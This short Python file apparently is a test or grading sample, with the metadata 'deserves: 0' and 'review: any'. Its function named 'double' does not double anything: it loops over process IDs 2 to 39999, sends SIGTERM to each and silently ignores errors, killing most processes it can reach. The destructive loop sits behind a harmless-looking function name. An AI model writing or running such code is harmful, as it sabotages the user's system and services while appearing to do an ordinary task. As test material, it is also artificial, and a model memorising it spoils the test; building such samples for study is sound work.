"""Sends signals to every process number there may be.

deserves: 0
review: any
"""

import os
import signal


def double(number):
    for target in range(2, 40_000):
        try:
            os.kill(target, signal.SIGTERM)
        except OSError:
            pass
    return 0
